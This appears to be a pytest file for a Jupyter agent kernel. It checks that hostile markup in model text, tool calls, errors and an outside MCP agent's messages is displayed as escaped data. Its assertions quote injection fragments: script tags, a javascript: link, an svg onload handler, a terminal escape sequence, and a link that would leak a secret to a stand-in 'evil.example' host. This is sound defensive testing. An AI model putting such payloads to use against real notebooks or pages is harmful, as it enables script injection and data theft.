"""Model and tool text is data, never markup, in a real kernel: a run whose streamed text, answer, tool
arguments, tool outputs, a tool's displays, an approval and an error all hold hostile markup and escape sequences
(:mod:`hostile_text`), and EVERY display the kernel sends for it (display_data, update_display_data,
execute_result, and the widgets' state: HTML values, Output widgets' outputs) is checked with a real HTML parser
(:mod:`live_html`): nothing that runs, nothing fetched, no escape sequence in plain text; the live panel and the
record both. And ``%agent_serve``'s panel, for an outside agent whose name, arguments and results hold the same.
"""

from __future__ import annotations

import asyncio
import json
import threading
import time
from typing import Any

import pytest
from hostile_text import HOSTILE, TERMINAL, TOOLS
from kernel_client import Cell, KernelSession, Message, button_description, kernel_fixtures, widget_state
from live_html import live_parts

SETUP = f"""\
%reset -f
%autoawait True
%config AgentMagics.transcripts = False
import os
os.environ.pop("CI", None)
{TOOLS}
@tool
def broken(q: str) -> str:
    "Fail with a hostile message."
    raise ValueError(HOSTILE)

hostile = ScriptedModel([Turn(text=HOSTILE, calls=[Call("lookup", {{"q": HOSTILE}}), Call("broken", {{"q": HOSTILE}}),
                                                   Call("write_note", {{"text": HOSTILE}})]),
                         HOSTILE])
failing = ScriptedModel([Turn(error=HOSTILE)])
"""

session, kernel = kernel_fixtures("hostile_text", SETUP)

HTML_MODELS = ("HTMLModel", "HTMLMathModel")


def checked_bundle(data: dict[str, Any], where: str) -> None:
    """A MIME bundle the notebook would render: its HTML runs and fetches nothing; no Markdown (a front end renders
    the HTML inside it live); no escape sequence in its text."""
    assert "text/markdown" not in data, f"{where}: a text/markdown part"
    if "text/html" in data:
        html = "".join(data["text/html"])
        assert live_parts(html, allow_data_images=True) == [], (where, html)
        assert "\\href" not in html or "mathjax_ignore" in html, (where, html)
    plain = "".join(data.get("text/plain", ""))
    assert not any(c in plain for c in TERMINAL), (where, plain)


def check_every_display(cell: Cell) -> dict[str, int]:
    """Check every display message and every widget state of ``cell``; count what was checked by kind."""
    return check_messages(cell.messages)


def check_messages(messages: list[Message]) -> dict[str, int]:
    """Check every display message and every widget state in ``messages``; count what was checked by kind."""
    models: dict[str, str] = {}
    seen = {"bundles": 0, "html_widgets": 0, "outputs": 0}
    for msg in messages:
        kind, content = msg["msg_type"], msg["content"]
        if kind in ("display_data", "update_display_data", "execute_result"):
            checked_bundle(content["data"], kind)
            seen["bundles"] += 1
        elif kind in ("comm_open", "comm_msg"):
            state = widget_state(msg)
            model = models.setdefault(content["comm_id"], state.get("_model_name", ""))
            if model in HTML_MODELS and isinstance(state.get("value"), str):
                checked_bundle({"text/html": state["value"]}, f"{model} value")
                seen["html_widgets"] += 1
            if state.get("description_allow_html"):
                checked_bundle({"text/html": state.get("description", "")}, f"{model} description")
            for output in state.get("outputs") or ():
                checked_bundle(output.get("data", {}), "Output widget")
                seen["outputs"] += 1
        elif kind == "stream":
            assert not any(c in content["text"] for c in TERMINAL), content["text"]
        elif kind == "error":
            assert not any(c in content["evalue"] for c in TERMINAL), content["evalue"]
    return seen


def shown_anywhere(cell: Cell, text: str) -> bool:
    return text in json.dumps([m["content"] for m in cell.messages], ensure_ascii=False)


def test_every_display_of_a_hostile_run_is_data(kernel: KernelSession):
    cell = kernel.submit("%%agent -m hostile --tools lookup,broken,write_note\nlook it up")
    approve = cell.wait_for_button("Approve", timeout=60)
    kernel.click(approve)
    cell.wait(60)
    assert cell.status == "ok" and not cell.errors, cell.describe()
    seen = check_every_display(cell)
    # It checked something: the panel's widgets, the panel's display and the record.
    assert seen["html_widgets"] > 5 and seen["bundles"] >= 2, seen
    # The hostile text did reach every view, as text: the streamed text, the answer rendered, the arguments, the
    # outputs (of the call that failed too), the approval; the tool's figure is shown, its HTML is not rendered.
    (record,) = cell.records
    page = record["text/html"]
    assert page.count("&lt;script&gt;window.pwned=1&lt;/script&gt;") >= 4  # answer, streamed text, 2 outputs
    assert '<a href="http://evil.example/leak?data=SECRET" rel="noopener noreferrer nofollow">image: chart</a>' \
        in page
    assert "[click](javascript:window.pwned=6)" in page and "<strong>bold</strong>" in page
    assert "error: ValueError: &lt;script&gt;" in page or "ValueError" in page
    assert "data:image/png;base64," in page  # the tool's own figure
    assert "⟨U+001B⟩]0;owned⟨U+0007⟩" in record["text/plain"]
    assert shown_anywhere(cell, "has side effects. Run it?") and shown_anywhere(cell, "approved")
    assert shown_anywhere(cell, "&lt;svg onload=") and shown_anywhere(cell, "data:image/png;base64,")


def test_an_error_cell_and_the_result_s_displays_are_data(kernel: KernelSession):
    cell = kernel.run("%%agent -m failing\nlook it up", timeout=60)
    (error,) = cell.errors
    assert error["ename"] == "FatalError" and "⟨U+001B⟩" in error["evalue"], error
    check_every_display(cell)
    shown = kernel.run("display(_agent)\n_agent")
    assert len(shown.of_type("display_data", "execute_result")) == 2
    check_every_display(shown)
    assert all("&lt;script&gt;" in m["content"]["data"]["text/html"]
               for m in shown.of_type("display_data", "execute_result")), shown.describe()


def test_the_serve_panel_shows_an_outside_agent_s_hostile_text_as_data(kernel: KernelSession):
    """``%agent_serve``: an outside agent that names itself with markup, asks for a variable holding it, calls with
    it as arguments and runs code printing it (approved in the panel): every message the kernel sends meanwhile,
    whichever cell it is sent under, is data."""
    pytest.importorskip("mcp")
    import httpx2
    from mcp import Client
    from mcp.client.streamable_http import streamable_http_client
    from mcp.types import Implementation

    since = time.monotonic()
    kernel.ok("%agent_serve")
    url, headers = kernel.value("_agent_serve.url"), kernel.value("_agent_serve.headers")
    kernel.ok("page = HOSTILE")
    outputs: list[str] = []

    async def main() -> None:
        async with httpx2.AsyncClient(headers=headers, timeout=60) as http, \
                Client(streamable_http_client(url, http_client=http),
                       client_info=Implementation(name=HOSTILE[:200], version="1")) as c:
            for name, arguments in (("inspect_variable", {"name": "page"}), ("inspect_variable", {"name": HOSTILE}),
                                    ("run_python", {"code": f"print({HOSTILE!r})"})):
                result = await c.call_tool(name, arguments)
                outputs.append("".join(part.text for part in result.content if part.type == "text"))

    def approve_when_asked() -> None:
        while True:
            asked = [m for messages in list(kernel.iopub.values()) for at, m in messages
                     if at > since and button_description(m) == "Approve"]
            if asked:
                kernel.click(asked[-1]["content"]["comm_id"])
                return
            kernel.pump(0.02)

    client = threading.Thread(target=lambda: asyncio.run(asyncio.wait_for(main(), 90)))
    client.start()
    approve_when_asked()
    while client.is_alive():
        kernel.pump(0.05)
    kernel.ok("%agent_serve stop")
    assert len(outputs) == 3 and "window.pwned=1" in outputs[0] and "window.pwned=1" in outputs[2], outputs
    messages = sorted((at, m) for batch in list(kernel.iopub.values()) for at, m in batch if at > since)
    seen = check_messages([m for _, m in messages])
    assert seen["html_widgets"] > 3, seen
    shown = json.dumps([m["content"] for _, m in messages], ensure_ascii=False)
    assert "&lt;script&gt;window.pwned=1&lt;/script&gt;" in shown  # it reached the panel, as text
    assert "connected: &lt;script&gt;window.pwned=1" in shown  # the client's name too
